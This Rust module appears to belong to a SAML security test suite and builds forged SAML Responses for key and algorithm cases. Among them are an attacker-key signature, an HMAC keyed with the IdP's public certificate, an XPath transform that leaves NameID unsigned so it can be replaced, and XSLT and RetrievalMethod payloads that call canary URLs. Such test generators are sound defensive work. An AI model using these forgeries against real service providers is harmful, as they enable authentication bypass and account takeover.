//! C. Keys and algorithms: signatures by the wrong key, by HMAC keyed with public data, with
//! weak, unknown or mismatched algorithms, with dangerous transforms, and with IdP certificates
//! outside their validity.

use time::Duration;

use crate::saml::canonical::{Canonical, DSIG, escape_attr, escape_text};
use crate::saml::error::Result;
use crate::saml::response::{assertion_xml, response_xml};
use crate::saml::sign::{
    DigestAlg, KeyInfo, SignOptions, SignatureAlg, insert_signature, signature_element,
};
use crate::saml::splice;

use super::build::{both_signed, idp_opts, post, valid_signed_with};
use super::{Builder, BuiltCase, CaseContext};

/// This group's builders by case id, in table order.
pub(super) const BUILDERS: &[(&str, Builder)] = &[
    ("saml.attacker-key", attacker_key),
    ("saml.cloned-cert", cloned_cert),
    ("saml.hmac-with-idp-cert", hmac_with_idp_cert),
    ("saml.hmac-truncated", hmac_truncated),
    ("saml.alg-rsa-sha1", alg_rsa_sha1),
    ("saml.digest-sha1", digest_sha1),
    ("saml.digest-md5", digest_md5),
    ("saml.alg-unknown-uri", alg_unknown_uri),
    ("saml.alg-mismatch", alg_mismatch),
    ("saml.transform-xslt", transform_xslt),
    ("saml.transform-xpath", transform_xpath),
    ("saml.retrieval-method", retrieval_method),
    ("saml.idp-cert-expired", idp_cert_expired),
    ("saml.idp-cert-not-yet-valid", idp_cert_not_yet_valid),
    ("saml.rotation-next-key", rotation_next_key),
    ("saml.rotation-retired-key", rotation_retired_key),
];

fn forged_signed_with(ctx: &CaseContext<'_>, opts: &SignOptions<'_>) -> Result<BuiltCase> {
    Ok(post(ctx, &both_signed(&ctx.forged(), opts)?, true))
}

fn attacker_key(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    forged_signed_with(ctx, &SignOptions::new(ctx.attacker))
}

fn cloned_cert(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    forged_signed_with(ctx, &SignOptions::new(ctx.cloned))
}

/// HMAC keyed with the IdP certificate's PEM text, which anyone can read from the metadata.
fn hmac_opts<'a>(ctx: &CaseContext<'a>, method: SignatureAlg) -> SignOptions<'a> {
    let mut opts = idp_opts(ctx).algorithms(method, DigestAlg::Sha256);
    opts.hmac_key = ctx.idp.cert_pem().into_bytes();
    opts.key_info = KeyInfo::Cert(ctx.idp);
    opts
}

fn hmac_with_idp_cert(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    forged_signed_with(ctx, &hmac_opts(ctx, SignatureAlg::HmacSha256))
}

fn hmac_truncated(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = hmac_opts(ctx, SignatureAlg::HmacSha1);
    opts.hmac_output_bits = Some(8);
    forged_signed_with(ctx, &opts)
}

fn alg_rsa_sha1(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha1, DigestAlg::Sha256),
    )
}

fn digest_sha1(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha256, DigestAlg::Sha1),
    )
}

fn digest_md5(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(
        ctx,
        &idp_opts(ctx).algorithms(SignatureAlg::RsaSha256, DigestAlg::Md5),
    )
}

fn alg_unknown_uri(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.method_uri = Some("urn:idgate:unknown-signature-method".into());
    valid_signed_with(ctx, &opts)
}

fn alg_mismatch(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.method_uri = Some(SignatureAlg::RsaSha512.uri().into());
    valid_signed_with(ctx, &opts)
}

fn transform_xslt(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let url = ctx.canary("transform-xslt");
    let mut w = Canonical::inside(&[("ds", DSIG)]);
    w.start(
        "ds:Transform",
        &[("Algorithm", "http://www.w3.org/TR/1999/REC-xslt-19991116")],
    );
    w.start("xsl:stylesheet", &[("version", "1.0")]);
    w.start("xsl:template", &[("match", "/")]);
    w.leaf(
        "xsl:copy-of",
        &[("select", &format!("document('{url}')"))],
        "",
    );
    w.end();
    w.end();
    w.end();
    let mut opts = idp_opts(ctx);
    opts.extra_transform = Some(w.finish());
    valid_signed_with(ctx, &opts)
}

fn transform_xpath(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = idp_opts(ctx);
    opts.extra_transform = Some(
        "<ds:Transform Algorithm=\"http://www.w3.org/TR/1999/REC-xpath-19991116\"><ds:XPath>\
         not(ancestor-or-self::*[local-name()='NameID'])</ds:XPath></ds:Transform>"
            .into(),
    );
    // What that XPath filter leaves to digest: the assertion without its NameID.
    let original = assertion_xml(&ctx.spec);
    let covered = splice::remove_first(&original, "saml:NameID")?;
    let uri = format!("#{}", ctx.spec.assertion_id);
    let sig = signature_element(&covered, &uri, &opts)?;
    let signed = insert_signature(&original, &splice::root(&original)?, &sig)?;
    let forged = splice::set_inner(&signed, "saml:NameID", &escape_text(&ctx.forged_name_id))?;
    Ok(post(ctx, &response_xml(&ctx.spec, &forged), true))
}

fn retrieval_method(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    let mut opts = SignOptions::new(ctx.attacker);
    opts.key_info = KeyInfo::Raw(format!(
        "<ds:RetrievalMethod Type=\"http://www.w3.org/2000/09/xmldsig#X509Data\" URI=\"{}\">\
         </ds:RetrievalMethod>",
        escape_attr(&ctx.canary("retrieval-method"))
    ));
    forged_signed_with(ctx, &opts)
}

fn idp_cert_reissued(ctx: &CaseContext<'_>, from: Duration, to: Duration) -> Result<BuiltCase> {
    let reissued = ctx.idp.reissue(ctx.now + from, ctx.now + to)?;
    valid_signed_with(ctx, &SignOptions::new(&reissued))
}

fn idp_cert_expired(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    idp_cert_reissued(ctx, Duration::days(-730), Duration::days(-365))
}

fn idp_cert_not_yet_valid(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    idp_cert_reissued(ctx, Duration::days(365), Duration::days(730))
}

/// The valid Response signed with the next key of the rotation, its certificate in KeyInfo.
fn rotation_next_key(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(ctx, &SignOptions::new(&ctx.rotation()?.next))
}

/// The valid Response signed with the retired key of the rotation, its certificate in KeyInfo.
fn rotation_retired_key(ctx: &CaseContext<'_>) -> Result<BuiltCase> {
    valid_signed_with(ctx, &SignOptions::new(&ctx.rotation()?.retired))
}
